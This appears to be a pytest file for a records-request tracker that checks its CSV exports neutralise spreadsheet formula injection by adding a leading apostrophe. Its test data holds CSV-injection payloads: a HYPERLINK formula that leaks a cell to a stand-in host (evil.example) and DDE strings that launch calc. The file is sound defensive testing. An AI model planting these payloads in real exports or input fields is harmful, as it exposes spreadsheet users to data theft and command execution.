"""CSV injection: no cell of a CSV the tracker exports runs as a spreadsheet formula.

The rule (``tracker.text.spreadsheet_safe``): a cell whose text starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return, the characters spreadsheets take for the start of
a formula or a command, is written with a leading apostrophe, so it reads as text. Numbers
the tracker computes itself (the board's days, a file's size) stay numbers, so -14 days
still sorts as -14; dates (2026-11-30) and references never start with those characters and
are written as they are. Text a person typed that merely starts with a minus ("-- draft")
gets the apostrophe too: text it was, text it stays.

The tracker exports these CSVs: the "Due & overdue" board, the Requests list, the
``index.csv`` of a request's documents ZIP, and the tables of the agency scorecards. A
check below fails when a new ``csv.writer`` appears in the package, so that a new export
is brought under the rule and tested here.
"""

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from tests.conftest import blank_pdf, post_form
from tracker import PROJECT_ROOT
from tracker.auth.models import Role
from tracker.documents.models import Document
from tracker.documents.services import store_files
from tracker.extensions import db
from tracker.requests.models import Organization, RequestStatus
from tracker.requests.services import normalise_tags
from tracker.text import spreadsheet_safe

TODAY = date(2026, 12, 14)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
EXPORTS = {
    "tracker/deadlines/routes.py",
    "tracker/documents/routes.py",
    "tracker/requests/routes.py",
    "tracker/scorecards/routes.py",
}


@pytest.fixture
def app(make_app):
    """The tracker on a fixed day, so the request below is overdue on the board."""
    app = make_app(TODAY=TODAY)
    with app.app_context():
        yield app


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: none starts like a formula, unless a plain number."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or NUMBER.fullmatch(cell), f"formula: {cell!r}"


@given(st.text())
def test_text_starting_like_a_formula_gets_an_apostrophe_and_nothing_else_changes(text):
    cell = spreadsheet_safe(text)
    assert not cell.startswith(TRIGGERS)
    assert cell == ("'" + text if text.startswith(TRIGGERS) else text)


@given(st.integers() | st.decimals(allow_nan=False, allow_infinity=False))
def test_numbers_the_tracker_writes_stay_numbers(number):
    assert spreadsheet_safe(number) == str(number)
    assert Decimal(spreadsheet_safe(number)) == Decimal(str(number))


def test_empty_cells_and_booleans_read_as_text():
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe(True) == "True"
    assert spreadsheet_safe("2026-11-30") == "2026-11-30"
    assert spreadsheet_safe("-- draft") == "'-- draft"


def test_every_csv_writer_in_the_tracker_is_an_export_tested_here():
    writers = {
        str(path.relative_to(PROJECT_ROOT))
        for path in (PROJECT_ROOT / "tracker").rglob("*.py")
        if "csv.writer(" in path.read_text("utf-8") or "csv.DictWriter(" in path.read_text("utf-8")
    }
    assert writers == EXPORTS, "a new CSV export: pass its cells through spreadsheet_safe"
    for name in EXPORTS:
        assert "spreadsheet_safe(" in (PROJECT_ROOT / name).read_text("utf-8"), name


def test_the_boards_export_neutralises_every_typed_value(
    client, auth, make_user, make_agency, make_request
):
    staff = make_user(Role.STAFF, name="@SUM(1+1)*cmd|' /C calc'!A0")
    agency = make_agency(name="+cmd|' /C calc'!A0", short_name="=1+1")
    records = [
        make_request(
            title=title,
            agency=agency,
            assignee=staff,
            status=RequestStatus.SENT,
            received_on=date(2026, 11, 17),
            agency_tracking_number="-2+3+cmd|' /C calc'!A0",
        )
        for title in FORMULAS
    ]
    auth.login(staff)
    response = client.get("/due?section=overdue&format=csv")
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert_no_formula(rows)

    header, *lines = rows
    table = [dict(zip(header, line, strict=True)) for line in lines]
    assert sorted(row["title"] for row in table) == sorted("'" + t for t in FORMULAS)
    for row in table:
        assert row["reference"] in {r.reference for r in records}
        assert row["agency"] == "'+cmd|' /C calc'!A0 (=1+1)"
        assert row["assignee"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["tracking_number"] == "'-2+3+cmd|' /C calc'!A0"
        # Legitimate values still read as themselves: a date, and days overdue as a number.
        assert row["due_on"] == "2026-11-30"
        assert row["days"] == "-14"


def test_the_request_lists_export_neutralises_every_typed_value(
    client, auth, make_user, make_agency, make_request
):
    staff = make_user(Role.STAFF, name="@SUM(1+1)*cmd|' /C calc'!A0")
    agency = make_agency(name="+cmd|' /C calc'!A0", short_name="=1+1")
    organization = Organization(name="-2+3+cmd|' /C calc'!A0")
    db.session.add(organization)
    db.session.commit()
    records = [
        make_request(
            title=title,
            agency=agency,
            assignee=staff,
            organization=organization,
            status=RequestStatus.SENT,
            received_on=date(2026, 11, 17),
            agency_tracking_number="-2+3+cmd|' /C calc'!A0",
            tags=normalise_tags("=1+1, @tag"),
        )
        for title in FORMULAS
    ]
    auth.login(staff)
    response = client.get(f"/requests?agency={agency.id}&format=csv")
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert_no_formula(rows)

    header, *lines = rows
    table = [dict(zip(header, line, strict=True)) for line in lines]
    assert sorted(row["title"] for row in table) == sorted("'" + t for t in FORMULAS)
    for row in table:
        assert row["reference"] in {r.reference for r in records}
        assert row["agency"] == "'+cmd|' /C calc'!A0 (=1+1)"
        assert row["assignee"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["organization"] == "'-2+3+cmd|' /C calc'!A0"
        assert row["tracking_number"] == "'-2+3+cmd|' /C calc'!A0"
        assert row["tags"] == "'=1+1, @tag"
        # Dates still read as themselves.
        assert row["received_on"] == "2026-11-17"
        assert row["due_on"] == "2026-11-30"


def test_the_documents_index_neutralises_names_and_titles(client, auth, make_user, make_request):
    staff = make_user(Role.STAFF)
    record = make_request(created_by=staff)
    names = ["=cmd.pdf", "+cmd.pdf", "-cmd.pdf", "@cmd.pdf", "report.pdf"]
    files = [(name, io.BytesIO(blank_pdf(name))) for name in names]
    documents = store_files(record, files, staff).stored
    db.session.commit()
    assert [d.original_filename for d in documents] == names

    # A title typed on the document's page.
    auth.login(staff)
    report = documents[-1]
    response = post_form(
        client,
        f"/documents/{report.id}",
        {"title": '=HYPERLINK("http://evil.example")', "disposition": "released"},
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    db.session.refresh(report)
    assert report.title == '=HYPERLINK("http://evil.example")'

    response = client.get(f"/requests/{record.reference}/documents.zip")
    assert response.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        # The files keep their names in the archive; only the index's cells are guarded.
        assert sorted(archive.namelist()) == sorted([*names, "index.csv"])
        index = archive.read("index.csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(index, newline="")))
    assert_no_formula(rows)
    header, *lines = rows
    table = {line[0]: dict(zip(header, line, strict=True)) for line in lines}
    assert set(table) == {"'=cmd.pdf", "'+cmd.pdf", "'-cmd.pdf", "'@cmd.pdf", "report.pdf"}
    assert table["'=cmd.pdf"]["title"] == "'=cmd"
    assert table["report.pdf"]["title"] == '\'=HYPERLINK("http://evil.example")'
    stored = db.session.scalars(select(Document).where(Document.id == report.id)).one()
    assert table["report.pdf"]["sha256"] == stored.sha256
    assert table["report.pdf"]["size"] == str(stored.size)
    assert table["report.pdf"]["uploaded_at"][:4].isdigit()


def test_the_scorecards_tables_neutralise_agency_names_and_cited_codes(
    client, auth, make_user, make_agency, make_request
):
    from tracker.documents.models import AgencyResponse, ResponseChannel, ResponseKind
    from tracker.items.models import ExemptionCitation, ItemAnswer, ItemState, RequestItem

    staff = make_user(Role.STAFF)
    agency = make_agency(name="+cmd|' /C calc'!A0", short_name="=1+1", law="ca-cpra")
    record = make_request(
        agency=agency, status=RequestStatus.SENT, received_on=date(2026, 11, 17),
        sent_on=date(2026, 11, 17),
    )  # fmt: skip
    response = AgencyResponse(
        request_id=record.id, kind=ResponseKind.DENIAL, received_on=date(2026, 11, 20),
        channel=ResponseChannel.EMAIL,
    )  # fmt: skip
    item = RequestItem(request_id=record.id, position=9, state=ItemState.WITHHELD)
    db.session.add_all([response, item])
    db.session.flush()
    answer = ItemAnswer(response_id=response.id, item_id=item.id, outcome=ItemState.WITHHELD)
    db.session.add(answer)
    db.session.flush()
    db.session.add(ExemptionCitation(answer_id=answer.id, law="ca-cpra", code="=1+2"))
    db.session.commit()
    auth.login(staff)
    for url in ("/scorecards/days.csv", f"/agencies/{agency.id}/scorecard/exemptions.csv"):
        response = client.get(url)
        assert response.mimetype == "text/csv"
        assert "attachment" in response.headers["Content-Disposition"]
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
        assert_no_formula(rows)
        assert len(rows) == 2
    days = list(csv.reader(io.StringIO(client.get("/scorecards/days.csv").get_data(as_text=True))))
    assert days[1][:3] == ["'+cmd|' /C calc'!A0 (=1+1)", "1", "3"]
    cited = client.get(f"/agencies/{agency.id}/scorecard/exemptions.csv").get_data(as_text=True)
    assert list(csv.reader(io.StringIO(cited)))[1] == ["'=1+2", "ca-cpra", "1"]
